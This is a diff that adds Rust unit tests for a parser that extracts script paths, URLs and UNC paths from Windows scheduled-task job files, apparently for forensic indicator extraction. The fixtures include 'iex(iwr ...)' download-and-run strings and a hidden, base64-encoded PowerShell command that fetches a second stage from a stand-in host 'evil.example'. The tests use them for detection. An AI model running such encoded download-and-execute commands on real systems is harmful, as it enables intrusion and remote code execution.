@@ -0,0 +1,123 @@
+#[cfg(test)]
+mod tests {
+    use jobfileparser::{extract_indicators, Indicator, IndicatorKind};
+
+    fn extract(text: &str) -> Vec<(IndicatorKind, String)> {
+        extract_indicators([text]).into_iter().map(|i| (i.kind, i.value)).collect()
+    }
+
+    fn script(value: &str) -> (IndicatorKind, String) {
+        (IndicatorKind::Script, value.to_string())
+    }
+
+    fn url(value: &str) -> (IndicatorKind, String) {
+        (IndicatorKind::Url, value.to_string())
+    }
+
+    fn unc(value: &str) -> (IndicatorKind, String) {
+        (IndicatorKind::Unc, value.to_string())
+    }
+
+    #[test]
+    fn test_quoted_paths_with_spaces() {
+        let cases = [
+            (r#"-File "C:\My Scripts\run me.ps1" -Force"#, vec![script(r"C:\My Scripts\run me.ps1")]),
+            (r#"-File:"C:\My Scripts\a.ps1""#, vec![script(r"C:\My Scripts\a.ps1")]),
+            (r#"/c "C:\Program Files\Tools\setup.bat" /quiet"#, vec![script(r"C:\Program Files\Tools\setup.bat")]),
+            (r#"-Command "& 'C:\My Scripts\a.ps1' -Verbose""#, vec![script(r"C:\My Scripts\a.ps1")]),
+            (r#"/e:vbscript "\\files\team share\logon.vbs""#, vec![unc(r"\\files\team share\logon.vbs")]),
+        ];
+        for (text, expected) in cases {
+            assert_eq!(extract(text), expected, "{}", text);
+        }
+    }
+
+    #[test]
+    fn test_urls_followed_by_punctuation() {
+        let cases = [
+            ("See https://example.com/a.ps1.", vec![url("https://example.com/a.ps1")]),
+            ("(iwr http://example.com/x),", vec![url("http://example.com/x")]),
+            ("iex(iwr 'https://example.com/p?q=1');", vec![url("https://example.com/p?q=1")]),
+            ("https://en.example.org/wiki/Foo_(bar).", vec![url("https://en.example.org/wiki/Foo_(bar)")]),
+            ("<http://example.com/a>", vec![url("http://example.com/a")]),
+            ("-Uri:HTTP://Example.com/Path!", vec![url("HTTP://Example.com/Path")]),
+            ("https:// and http://", vec![]),
+        ];
+        for (text, expected) in cases {
+            assert_eq!(extract(text), expected, "{}", text);
+        }
+    }
+
+    #[test]
+    fn test_escaped_backslashes() {
+        let cases = [
+            (r"C:\\Users\\Public\\a.vbs", vec![script(r"C:\Users\Public\a.vbs")]),
+            (r"\\\\srv\\share\\drop\\b.js", vec![unc(r"\\srv\share\drop\b.js")]),
+            (r#"/c \"C:\Temp\x.bat\""#, vec![script(r"C:\Temp\x.bat")]),
+            // A UNC path written plainly keeps its leading pair.
+            (r"\\srv\share\c.hta", vec![unc(r"\\srv\share\c.hta")]),
+        ];
+        for (text, expected) in cases {
+            assert_eq!(extract(text), expected, "{}", text);
+        }
+    }
+
+    #[test]
+    fn test_unc_and_scripts() {
+        let text = r"script=\\dc01\NETLOGON\logon.cmd \\dc01\share /path:.\local.js a.exe \\.\pipe\x \\?\C:\x.ps1";
+        assert_eq!(
+            extract(text),
+            [
+                unc(r"\\dc01\NETLOGON\logon.cmd"),
+                unc(r"\\dc01\share"),
+                script(r".\local.js"),
+                script(r"\\?\C:\x.ps1"),
+            ]
+        );
+        assert_eq!(extract("backup.exe /full C:\\Data notes.txt"), []);
+        assert_eq!(extract(".ps1 run.ps1x"), []);
+    }
+
+    #[test]
+    fn test_deduplicated() {
+        let found = extract_indicators([
+            r"C:\Scripts\A.ps1 https://example.com/A",
+            r#""c:\scripts\a.ps1" https://example.com/a https://example.com/A"#,
+            r"C:\Données\Été.vbs \\SRV\PARTAGE\ÉTÉ.VBS c:\DONNÉES\ÉTÉ.VBS \\srv\partage\été.vbs",
+        ]);
+        assert_eq!(
+            found,
+            [
+                Indicator { kind: IndicatorKind::Script, value: r"C:\Scripts\A.ps1".to_string() },
+                Indicator { kind: IndicatorKind::Url, value: "https://example.com/A".to_string() },
+                Indicator { kind: IndicatorKind::Url, value: "https://example.com/a".to_string() },
+                // Non-ASCII letters match in either case, and the first
+                // spelling is kept.
+                Indicator { kind: IndicatorKind::Script, value: r"C:\Données\Été.vbs".to_string() },
+                Indicator { kind: IndicatorKind::Unc, value: r"\\SRV\PARTAGE\ÉTÉ.VBS".to_string() },
+            ]
+        );
+    }
+
+    #[cfg(feature = "binary")]
+    #[test]
+    fn test_record_indicators() {
+        use jobfileparser::{JobBuilder, ParsedArtifact, Record};
+        use std::path::Path;
+
+        // `IEX (iwr 'https://evil.example/stage2.ps1').Content`, as UTF-16LE
+        // in base64.
+        let encoded = "SQBFAFgAIAAoAGkAdwByACAAJwBoAHQAdABwAHMAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUA\
+                       LwBzAHQAYQBnAGUAMgAuAHAAcwAxACcAKQAuAEMAbwBuAHQAZQBuAHQA";
+        let job = JobBuilder::new("powershell.exe")
+            .parameters(&format!("-nop -w hidden -enc {}", encoded))
+            .build().unwrap();
+        let record = Record::new(Path::new("a.job"), Ok(ParsedArtifact::Job(job)));
+        let found: Vec<(IndicatorKind, &str)> =
+            record.indicators().iter().map(|i| (i.kind, i.value.as_str())).collect();
+        assert_eq!(found, [(IndicatorKind::Url, "https://evil.example/stage2.ps1")]);
+
+        let plain = Record::new(Path::new("b.job"), Ok(ParsedArtifact::Job(JobBuilder::new("a.exe").build().unwrap())));
+        assert!(plain.indicators().is_empty());
+    }
+}